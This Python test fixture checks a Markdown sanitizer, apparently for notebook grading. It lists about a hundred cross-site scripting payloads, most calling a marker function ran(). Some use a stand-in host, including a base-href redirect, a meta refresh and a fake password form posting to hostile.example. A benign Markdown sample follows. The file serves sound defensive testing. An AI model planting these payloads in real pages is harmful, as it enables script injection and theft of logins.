r"""What a hostile learner writes into Markdown, and what an honest one does.

Each hostile text calls `ran`, with its own name, if a browser lets it. A page under
test defines that function, so what ran is known by name.
"""

# the smallest PNG, 1 × 1
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAA"
    "AABJRU5ErkJggg=="
)

HOSTILE = {
    # tags, as they are and obscured
    "script": "<script>ran('script')</script>",
    "script_inside": "Because <script>ran('script_inside')</script> of it.",
    "image": "<img src=x onerror=\"ran('image')\">",
    "image_inside": "Because <img src=x onerror=\"ran('image_inside')\"> of it.",
    "upper": "<IMG SRC=x OnError=\"ran('upper')\">",
    "slashes": "<img/src=x/onerror=\"ran('slashes')\">",
    "lines": "<img\nsrc=x\nonerror\n=\nran('lines')\n>",
    "tabs": "<img\tsrc=x\tonerror=\"ran('tabs')\">",
    "form_feed": "<img\x0csrc=x\x0conerror=\"ran('form_feed')\">",
    "null": "<\x00img src=x onerror=\"ran('null')\">",
    "null_inside": "<i\x00mg src=x onerror=\"ran('null_inside')\">",
    "unclosed": "<img src=x onerror=\"ran('unclosed')\" ",
    "unclosed_last": "<img src=x onerror=\"ran('unclosed_last')\"//",
    "svg": "<svg onload=\"ran('svg')\"></svg>",
    "svg_script": "<svg><script>ran('svg_script')</script></svg>",
    "animate": "<svg><animate onbegin=\"ran('animate')\" dur=1s>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=\"ran('math')\">",
    "details": "<details open ontoggle=\"ran('details')\">x</details>",
    "focus": "<input autofocus onfocus=\"ran('focus')\">",
    "video": "<video src=x onerror=\"ran('video')\"></video>",
    "frame": "<iframe src=\"javascript:parent.ran('frame')\"></iframe>",
    "frame_page": "<iframe srcdoc=\"<script>ran('frame_page')</script>\"></iframe>",
    "object": "<object data=\"javascript:ran('object')\"></object>",
    "embed": "<embed src=\"javascript:ran('embed')\">",
    "style": "<style>@keyframes k {}</style><b style='animation: k' "
    "onanimationstart=\"ran('style')\">x</b>",
    "base": "<base href='https://hostile.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://hostile.example/'>",
    "form": "<form action='https://hostile.example/'><input type=password><button "
    "autofocus onfocus=\"ran('form')\">Sign in</button></form>",
    "comment": "<!--><img src=x onerror=\"ran('comment')\">-->",
    "comment_closed": "<!-- --!><img src=x onerror=\"ran('comment_closed')\"> -->",
    "cdata": "<![CDATA[><img src=x onerror=\"ran('cdata')\">]]>",
    "instruction": "<?x ><img src=x onerror=\"ran('instruction')\">?>",
    "closing": "</div></div></textarea></pre><img src=x onerror=\"ran('closing')\">",
    "template": "<template><img src=x onerror=\"ran('template')\"></template>",
    "noscript": '<noscript><p a="</noscript><img src=x onerror="ran(\'noscript\')">">',
    "title": '<title><img title="</title><img src=x onerror="ran(\'title\')">">',
    "nested": "<<b>img src=x onerror=\"ran('nested')\">",
    "split": "<scr<script>ipt>ran('split')</scr</script>ipt>",
    "custom": "<x-y tabindex=1 autofocus onfocus=\"ran('custom')\">x</x-y>",
    "kept_tag": "<b onmouseover=\"ran('kept_tag')\">x</b>",
    "kept_line": "<br>\n<img src=x onerror=\"ran('kept_line')\">",
    "kept_address": "<br>\n<https://x/autofocus/tabindex=1/onfocus=\"ran('kept_address')\"//>",
    "address": '<https://x/"onfocus="ran(\'address\')"autofocus/tabindex=1//>',
    # where Markdown has code, or does not
    "fence_open": "```\n<img src=x onerror=\"ran('fence_open')\">",
    "fence_closed": "```\n```\n<img src=x onerror=\"ran('fence_closed')\">\n```\n```",
    "fence_tilde": "~~~ `\n<img src=x onerror=\"ran('fence_tilde')\">\n~~~",
    "mermaid": "```mermaid\n</pre><img src=x onerror=\"ran('mermaid')\">\n```",
    "diagram": "~~~ mermaid\n</pre><img src=x onerror=\"ran('diagram')\">\n~~~",
    "language": '```x"><img/src=x/onerror="ran(\'language\')">\ncode\n```',
    "span": "`` ` <img src=x onerror=\"ran('span')\"> `",
    "span_escaped": "\\`<img src=x onerror=\"ran('span_escaped')\">`",
    "indented": "1. x\n\n       <img src=x onerror=\"ran('indented')\">",
    "quoted": "> <img src=x\n> onerror=\"ran('quoted')\">",
    "heading": "# <img src=x onerror=\"ran('heading')\">",
    "cell": "| a |\n|---|\n| <img src=x onerror=\"ran('cell')\"> |",
    "list": "- <img src=x onerror=\"ran('list')\">",
    "dollars": "$<img src=x onerror=\"ran('dollars')\">$",
    "environment": "\\begin{x}<img src=x onerror=\"ran('environment')\">\\end{x}",
    "begun": "\\begin{<img src=x onerror=\"ran('begun')\">}\\end{x}",
    # links and pictures
    "link": "[x](javascript:ran('link'))",
    "link_upper": "[x](JaVaScRiPt:ran('link_upper'))",
    "link_space": "[x]( \n javascript:ran('link_space'))",
    "link_angle": "[x](<javascript:ran('link_angle')>)",
    "link_angle_space": "[x](< javascript:ran('link_angle_space')>)",
    "link_entity": "[x](java&#115;cript:ran('link_entity'))",
    "link_zeros": f"[x](java&#x{'0' * 50}73;cript:ran('link_zeros'))",
    "link_colon": "[x](javascript&colon;ran('link_colon'))",
    "link_tab": "[x](java&Tab;script:ran('link_tab'))",
    "link_newline": "[x](<java&NewLine;script:ran('link_newline')>)",
    "link_escape": "[x](javascript\\:ran('link_escape'))",
    "link_control": "[x](\x01javascript:ran('link_control'))",
    "link_nbsp": "[x](\u00a0javascript:ran('link_nbsp'))",
    "link_vb": "[x](vbscript:ran('link_vb'))",
    "link_data": "[x](data:text/html,<script>opener.ran('link_data')</script>)",
    "link_blob": "[x](blob:https://hostile.example/)",
    "link_quoted": "> [x](\n> javascript:ran('link_quoted'))",
    "link_title": "[x](https://example.org \"t' onmouseover='ran('link_title')\")",
    "link_break": "[x](https://example.org/\"onmouseover=\"ran('link_break'))",
    "link_picture": "[![x](javascript:ran('link_picture'))](javascript:1)",
    "reference": "[x][r]\n\n[r]: javascript:ran('reference')",
    "reference_short": "[x]\n\n[x]: javascript:ran('reference_short')",
    "reference_line": "[x]\n\n[x]:\n   javascript:ran('reference_line')",
    "reference_quoted": "[x]\n\n> [x]: javascript:ran('reference_quoted')",
    "reference_angle": "[x]\n\n[x]: <javascript:ran('reference_angle')>",
    "autolink": "<javascript:ran('autolink')>",
    "elsewhere": "[the chapter](../../api/comments)",
    "submitted": "[my file](..%2F..%2F..%2Fsubmitted%2Fhostile%2F0_tiny%2Fpage.html)",
    "logout": "![x](/logout)",
    "outside": "![x](https://hostile.example/outside.png)",
    "outside_reference": "![x][r]\n\n[r]: https://hostile.example/outside.png",
    "outside_short": "![x]\n\n[x]: https://hostile.example/outside.png",
    "picture_svg": "![x](data:image/svg+xml,<svg onload=\"ran('picture_svg')\">)",
    "picture_alt": "![<img src=x onerror=\"ran('picture_alt')\">](x.png)",
    "attachment_svg": "![x](attachment:x.svg)",
    "attachment_page": "![x](attachment:page)",
    "attachment_missing": "![x](attachment:nowhere.png)",
    "attachment_reference": "![x][r]\n\n[r]: attachment:nowhere.png",
    "attachment_entity": "![x](attachment&colon;nowhere.png)",
    # a name by which nbgrader's script finds where a score stands
    "heading_id": "# test_double",
    # formulas
    "formula": "$\\href{javascript:ran('formula')}{x}$",
    "formula_class": "$$\\class{comment}{x} \\cssId{why}{y} \\style{color:red}z$$",
    "formula_entity": "&#36;&#92;&#104;ref{javascript:ran('formula_entity')}{x}&#36;",
    "formula_token": "$\\mmlToken{mi}[href=\"javascript:ran('formula_token')\"]{x}$",
}

HONEST = r"""Addition is enough: 3 x = 2 x + x, for all a < b and c > d & e.

1. *first*, **second**, `third[i](x) < 4`
2. $a_{i} < b_j$ and $\sum_{t=1}^{T} \frac{\partial E}{\partial W} \le 1$

| n | n < 3 |
|---|:-----:|
| 1 | yes   |

$$
\begin{aligned} h_t &= \tanh(W x_t) \\ y &< 1 \end{aligned}
$$

> See [the paper](https://example.org/a_(b)?c=1&d=2 "A title"), [below](#end),
> or [the chapter](../../book/03_rnn.md); H<sub>2</sub>O &alpha; &lt;x&gt;<br>
> and <https://example.org/>.

```python
if a < b and x[0]:
    y = layers[0](x, h)
```

- [x] done
- [ ] not done: ~~old~~

![a drawing](attachment:drawing.png)
"""
